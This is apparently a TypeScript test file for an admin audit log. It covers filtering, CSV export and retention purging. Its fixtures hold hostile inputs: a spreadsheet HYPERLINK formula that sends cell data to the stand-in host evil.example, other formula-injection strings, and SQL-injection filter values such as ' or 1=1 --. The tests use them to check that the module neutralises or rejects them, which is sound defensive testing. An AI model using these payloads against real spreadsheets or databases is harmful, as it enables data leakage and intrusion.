import assert from 'node:assert/strict';
import { buffer } from 'node:stream/consumers';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import {
  auditCsvStream,
  exportFilter,
  parseAuditFilter,
  purgeOldAudit,
  queryAuditEvents,
} from '../../src/admin/audit-log.js';
import { parseDateInput } from '../../src/admin/days.js';
import { recordAudit } from '../../src/audit/audit.js';
import { DAY } from '../../src/platform/clock.js';
import { DIALECTS, type TestStore } from '../helpers/stores.js';

// 15 January 2026, 10:00 in Paris.
const NOW = Date.UTC(2026, 0, 15, 9, 0, 0);

for (const d of DIALECTS) {
  describe(`audit log on ${d.name}`, () => {
    let store: TestStore;
    let skip: string | undefined;
    before(async () => {
      skip = await d.skip();
      if (skip) return;
      store = await d.open();
      const e = (at: number, event: string, actor: string, extra: Record<string, unknown> = {}) =>
        recordAudit(store.db, { event: event as 'sign-in', outcome: 'success', actor, ...extra }, at);
      await e(NOW - 2 * DAY, 'sign-in', 'member:400001', {
        memberNumber: '400001',
        memberId: 1,
        ip: '192.0.2.1',
      });
      await e(NOW - DAY, 'member-unlocked', 'staff:mdurand', {
        memberNumber: '400001',
        memberId: 1,
        staffId: 1,
      });
      await e(NOW, 'sign-in', 'member:400002', {
        memberNumber: '400002',
        userAgent: '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
        details: { note: '+33 6 12 34 56 78', other: '@SUM(1+1)' },
      });
      await e(NOW, 'sign-in', 'member:400003', { memberNumber: '400003', userAgent: '-2+3', ip: '\tcmd' });
      await e(NOW - 500 * DAY, 'sign-in', 'member:400001', { memberNumber: '400001' });
    });
    after(async () => {
      if (!skip) await store.dispose();
    });

    it('filters by member, staff member, event type and Paris date range', async (c) => {
      if (skip) return c.skip(skip);
      const byMember = await queryAuditEvents(store, parseAuditFilter({ member: '400001' }).filter, 1);
      assert.equal(byMember.total, 3);
      const byStaff = await queryAuditEvents(store, parseAuditFilter({ staff: 'MDurand' }).filter, 1);
      assert.deepEqual(
        byStaff.items.map((r) => r.event),
        ['member-unlocked'],
      );
      const byEvent = await queryAuditEvents(store, parseAuditFilter({ event: 'sign-in' }).filter, 1);
      assert.equal(byEvent.total, 4);
      const day = await queryAuditEvents(
        store,
        parseAuditFilter({ from: '2026-01-15', to: '2026-01-15' }).filter,
        1,
      );
      assert.equal(day.total, 2);
      const range = await queryAuditEvents(
        store,
        parseAuditFilter({ from: '2026-01-13', to: '2026-01-14' }).filter,
        1,
      );
      assert.equal(range.total, 2);
    });

    it('ignores malformed filters instead of failing', async (c) => {
      if (skip) return c.skip(skip);
      const { filter } = parseAuditFilter({
        from: '2026-02-30',
        to: "'; drop",
        event: 'SIGN IN; --',
        member: ['a', 'b'],
      });
      assert.deepEqual(filter, {});
      assert.equal(parseDateInput('2026-13-01'), undefined);
      assert.equal(
        (await queryAuditEvents(store, parseAuditFilter({ member: "' or 1=1 --" }).filter, 1)).total,
        0,
      );
    });

    it('exports a CSV that a CSV parser reads back, with formula cells neutralised', async (c) => {
      if (skip) return c.skip(skip);
      const bytes = await buffer(auditCsvStream(store, exportFilter('2026-01-15', '2026-01-15')));
      assert.deepEqual(
        [...bytes.subarray(0, 3)],
        [0xef, 0xbb, 0xbf],
        'a BOM so that spreadsheets read UTF-8',
      );
      const csv = bytes.toString('utf8');
      const rows = parse(csv, { bom: true, delimiter: ';', columns: true }) as Record<string, string>[];
      assert.equal(rows.length, 2);
      const hostile = rows.find((r) => r.member_number === '400002')!;
      assert.equal(hostile.user_agent, `'=HYPERLINK("http://evil.example/?x="&A1,"clic")`);
      assert.equal(hostile.event, 'sign-in');
      assert.match(String(hostile.date), /^2026-01-15T09:00:00/);
      const other = rows.find((r) => r.member_number === '400003')!;
      assert.equal(other.user_agent, "'-2+3");
      assert.equal(other.ip, "'\tcmd");
      assert.equal(
        JSON.parse(hostile.details!).other,
        '@SUM(1+1)',
        'inside a JSON cell the text is kept as it was',
      );
      for (const r of rows) for (const v of Object.values(r)) assert.doesNotMatch(v, /^[=+\-@\t\r]/);
    });

    it('exports every row in id order across batches', async (c) => {
      if (skip) return c.skip(skip);
      const csv = (await buffer(auditCsvStream(store, {}))).toString('utf8');
      const rows = parse(csv, { bom: true, delimiter: ';', columns: true }) as Record<string, string>[];
      assert.equal(rows.length, 5);
      const ids = rows.map((r) => Number(r.id));
      assert.deepEqual(
        ids,
        [...ids].sort((a, b) => a - b),
      );
    });

    it('purges events older than the retention period only', async (c) => {
      if (skip) return c.skip(skip);
      assert.equal(await purgeOldAudit(store, NOW, 400), 1);
      assert.equal(await purgeOldAudit(store, NOW, 400), 0);
      assert.equal((await queryAuditEvents(store, {}, 1)).total, 4);
    });
  });
}
